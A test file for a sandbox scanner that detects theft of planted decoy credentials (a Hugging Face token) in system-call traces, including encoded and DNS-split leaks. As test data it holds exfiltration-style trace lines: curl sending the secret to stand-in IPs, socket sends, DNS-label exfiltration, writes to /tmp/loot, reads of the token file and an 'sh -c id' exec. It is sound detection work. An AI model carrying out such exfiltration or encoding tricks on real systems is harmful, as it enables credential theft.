import { describe, expect, it } from 'vitest';
import { CanaryWatch } from '../../src/behavior/theft.js';
import { createAnalysis } from '../../src/behavior/analysis.js';
import { AFTER, BEFORE, CONTEXT, END, SECRET, parse, rulesOf, run } from './support.js';

const [canary] = CONTEXT.canaries;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const changed = (key: (byte: number, at: number) => number): Buffer =>
  Buffer.from(Array.from(Buffer.from(SECRET), key));
const hex = (text: string): string => Buffer.from(text).toString('hex');

function found(text: string): string[] {
  return new CanaryWatch(CONTEXT.canaries).theftIn(text).map((theft) => `${theft.canary.name} ${theft.encoding}`);
}

describe('the value of a canary is found', () => {
  it.each([
    ['as it is', SECRET],
    ['in the middle of others', `POST / HTTP/1.1\r\n\r\n{"token": "${SECRET}"}`],
    ['in capitals', SECRET.toUpperCase()],
    ['cut at both ends', SECRET.slice(4, -1)],
  ])('%s', (_, text) => {
    expect(found(text)).toEqual(['a Hugging Face token as it is']);
  });

  it.each([
    ['at its beginning', base64(SECRET)],
    ['one byte in', base64(`x${SECRET}`)],
    ['two bytes in', base64(`xy${SECRET} and more`)],
    ['broken into lines', base64(`a long line before it: ${SECRET}`).replace(/.{11}/g, '$&\n')],
    ['in the alphabet for URLs', Buffer.from(`>>>???${SECRET}`).toString('base64url')],
  ])('in Base64, %s', (_, text) => {
    expect(found(text)).toEqual(['a Hugging Face token in Base64']);
  });

  it.each([
    ['small', hex(SECRET)],
    ['capital', hex(SECRET).toUpperCase()],
    ['between colons', hex(SECRET).replace(/../g, '$&:')],
  ])('in hexadecimal digits, %s', (_, text) => {
    expect(found(text)).toEqual(['a Hugging Face token in hexadecimal digits']);
  });

  it.each([
    ['XORed with a byte', changed((byte) => byte ^ 0x5a)],
    ['XORed with a word', changed((byte, at) => byte ^ (Buffer.from('secret')[at % 6] ?? 0))],
    ['with a number added to each byte', changed((byte) => byte + 200)],
    ['backwards', Buffer.from(SECRET).reverse()],
    ['in Base64 twice', Buffer.from(base64(base64(`x: ${SECRET}`)))],
    ['in Base32', Buffer.from('MFRGQZS7OE3VU5BQJN4DSTDXGNJGEOCWPEZE23RVJBRUUZBUKBZTMVDHIZQTCRI=')],
    ['in decimal numbers', Buffer.from(JSON.stringify([...Buffer.from(SECRET)]))],
    ['in UTF-16', Buffer.from(SECRET, 'utf16le')],
    ['in escapes of addresses', Buffer.from(hex(SECRET).replace(/../g, '%$&'))],
    ['XORed, in hexadecimal digits', Buffer.from(changed((byte) => byte ^ 9).toString('hex'))],
    ['XORed, in Base64', Buffer.from(changed((byte) => byte ^ 200).toString('base64'))],
  ])('%s', (_, bytes) => {
    expect(found(Buffer.from(bytes).toString('latin1'))).toHaveLength(1);
  });

  it('in messages of eight characters, and told once', () => {
    const watch = new CanaryWatch(CONTEXT.canaries);
    const parts = hex(SECRET + SECRET).match(/.{1,8}/g) ?? [];
    expect(parts.flatMap((part) => watch.theftInStream('x', part))).toEqual([
      { canary, encoding: 'in hexadecimal digits' },
    ]);
  });
});

describe('what is no proof', () => {
  it.each([
    ['another token of the same kind', 'hf_aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zAbC'],
    ['the first fifteen characters of it', SECRET.slice(0, 15)],
    ['its name', '/home/model/.cache/huggingface/token'],
    ['nothing', ''],
    ['numbers that are like some of it', JSON.stringify([...Buffer.from(SECRET.slice(4, 13))])],
    ['zeros', '\0'.repeat(100_000)],
  ])('%s', (_, text) => {
    expect(found(text)).toEqual([]);
  });

  it('its two halves, sent to different places', () => {
    const watch = new CanaryWatch(CONTEXT.canaries);
    expect(watch.theftInStream('one', SECRET.slice(0, 10))).toEqual([]);
    expect(watch.theftInStream('other', SECRET.slice(10, 20))).toEqual([]);
  });
});

it('a value in a subject is named, not spelled, so that the finding is the same one in the next run', () => {
  const sent = (secret: string) =>
    run([`100 execve("/usr/bin/curl", ["curl", "https://203.0.113.7/${secret}"], 0x7ffd /* 1 var */) = 0`]).findings;
  expect(sent(SECRET).map(({ subject }) => subject)).toContain(
    'the value of /home/model/.cache/huggingface/token as it is',
  );
  expect(JSON.stringify(sent(SECRET).map(({ subject }) => subject))).not.toContain(SECRET);
  expect(sent('index.html').map(({ subject }) => subject)).not.toContain(undefined);
});

describe('proof of theft says what, where it went and how', () => {
  const explained = (lines: readonly string[]): string | undefined =>
    run(lines).findings.find(({ rule }) => rule === 'DYN-THEFT-PROOF')?.explanation;

  it('in a message', () => {
    expect(
      explained([
        '100 connect(3<TCP:[9]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("203.0.113.7")}, 16) = 0',
        `100 sendto(3<TCP:[9]>, "${SECRET}", 37, 0, NULL, 0) = 37`,
      ]),
    ).toContain(
      'PID 100 takes a Hugging Face token (/home/model/.cache/huggingface/token), a canary of this scan, and sends it to 203.0.113.7 port 443, as it is.',
    );
  });

  it('in a name that is looked up, spread over several', () => {
    const ask = (label: string): string => {
      const octal = (length: number): string => `\\${length.toString(8).padStart(3, '0')}`;
      return `100 sendto(3<UDP:[127.0.0.1:4000->127.0.0.1:53]>, "\\22\\64\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0${octal(label.length)}${label}\\007example\\003com\\0\\0\\1\\0\\1", ${30 + label.length}, MSG_NOSIGNAL, NULL, 0) = 50`;
    };
    const [one = '', two = ''] = hex(SECRET).match(/.{1,12}/g) ?? [];
    expect(explained([ask(one), ask(two)])).toContain(`asks for the name ${two}.example.com with it inside, in hexa`);
    expect(explained([ask(one)])).toBeUndefined();
  });

  it('in the arguments of a program', () => {
    const text = explained([
      '100 vfork() = 101',
      `101 execve("/usr/bin/curl", ["curl", "-d", "${base64(SECRET)}", "http://192.0.2.9/"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)`,
    ]);
    expect(text).toMatch(/PID 101 takes .*hands it to a program: curl -d .* http:\/\/192\.0\.2\.9\/, in Base64\./);
  });

  it('in a file', () => {
    expect(explained([`100 pwrite64(5</tmp/loot>, "${hex(SECRET)}", 74, 0) = 74`])).toContain(
      'writes it to /tmp/loot, in hexadecimal digits.',
    );
  });

  it('and is not made by printing, which is told as such, or by a pipe to a child', () => {
    expect(rulesOf(run([`100 write(1<pipe:[9]>, "${SECRET}", 37) = 37`]))).toEqual(['DYN-CRED-PRINTED']);
    expect(rulesOf(run([`100 write(5<pipe:[9]>, "${SECRET}", 37) = 37`]))).toEqual([]);
  });
});

describe('what the sandbox’s own network received', () => {
  const connect =
    '100 connect(3<TCP:[9]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("203.0.113.7")}, 16) = 0';

  it.each([
    ['is proof by itself, as inside TLS', [connect]],
    [
      'is counted once with what the trace shows',
      [connect, `100 sendto(3<TCP:[9]>, "${SECRET}", 37, 0, NULL, 0) = 37`],
    ],
  ])('%s', (_, lines) => {
    const analysis = createAnalysis(CONTEXT);
    for (const event of parse([...BEFORE, ...lines, ...AFTER, END])) analysis.push(event);
    analysis.received({ address: '203.0.113.7', port: 443, text: `POST / HTTP/1.1\n\n${SECRET}` });
    const thefts = analysis.finish().findings.filter(({ rule }) => rule === 'DYN-THEFT-PROOF');
    expect(thefts).toHaveLength(1);
    expect(thefts[0]).toMatchObject({ count: 1, severity: 'critical' });
    expect(thefts[0]?.explanation).toContain('sends it to 203.0.113.7 port 443, as it is.');
  });
});

describe('touching a canary', () => {
  const open = (result: string): string | undefined =>
    run([`100 openat(AT_FDCWD</tmp>, "/home/model/.cache/huggingface/token", O_RDONLY|O_CLOEXEC) = ${result}`])
      .findings[0]?.explanation;

  it('names what a thief would have had', () => {
    expect(open('5</home/model/.cache/huggingface/token>')).toContain(
      'It worked. What it got is a canary of this scan: a Hugging Face token.',
    );
  });

  it('says which canary and what was done with it', () => {
    const path = '/home/model/.cache/huggingface/token';
    const canaries = (...lines: readonly string[]): unknown[] => run(lines).findings.map(({ decoy }) => decoy);
    const read = `100 openat(AT_FDCWD, "${path}", O_RDONLY) = 5<${path}>`;
    expect(canaries(`100 access("${path}", R_OK) = 0`)).toEqual([{ name: 'a Hugging Face token', path, use: 'seen' }]);
    expect(canaries(`100 access("${path}", R_OK) = 0`, read)).toEqual([
      { name: 'a Hugging Face token', path, use: 'read' },
    ]);
    expect(canaries(`100 openat(AT_FDCWD, "${path}", O_RDONLY) = -1 EACCES (Permission denied)`)).toEqual([undefined]);
    expect(canaries(`100 write(5</tmp/x>, "${SECRET}", 37) = 37`)).toContainEqual({
      ...{ name: 'a Hugging Face token', path, use: 'taken' },
    });
  });

  it('says in fields where its value went, and what was started', () => {
    const facts = (line: string): unknown => run([line]).findings.map((finding) => finding.facts);
    expect(facts(`100 write(5</tmp/x>, "${SECRET}", 37) = 37`)).toContainEqual({
      destination: { way: 'file', place: '/tmp/x' },
    });
    expect(facts('100 execve("/bin/sh", ["sh", "-c", "id"], 0x7ffc0000 /* 9 vars */) = 0')).toEqual([
      { argv: ['sh', '-c', 'id'] },
    ]);
  });

  it('is told from looking for what is not there', () => {
    expect(open('-1 EACCES (Permission denied)')).not.toContain('canary');
  });

  it('counts when it only asks whether it is there', () => {
    const { findings } = run(['100 access("/home/model/.cache/huggingface/token", R_OK) = 0']);
    expect(findings[0]?.explanation).toContain('It is there: a canary of this scan, a Hugging Face token.');
  });
});
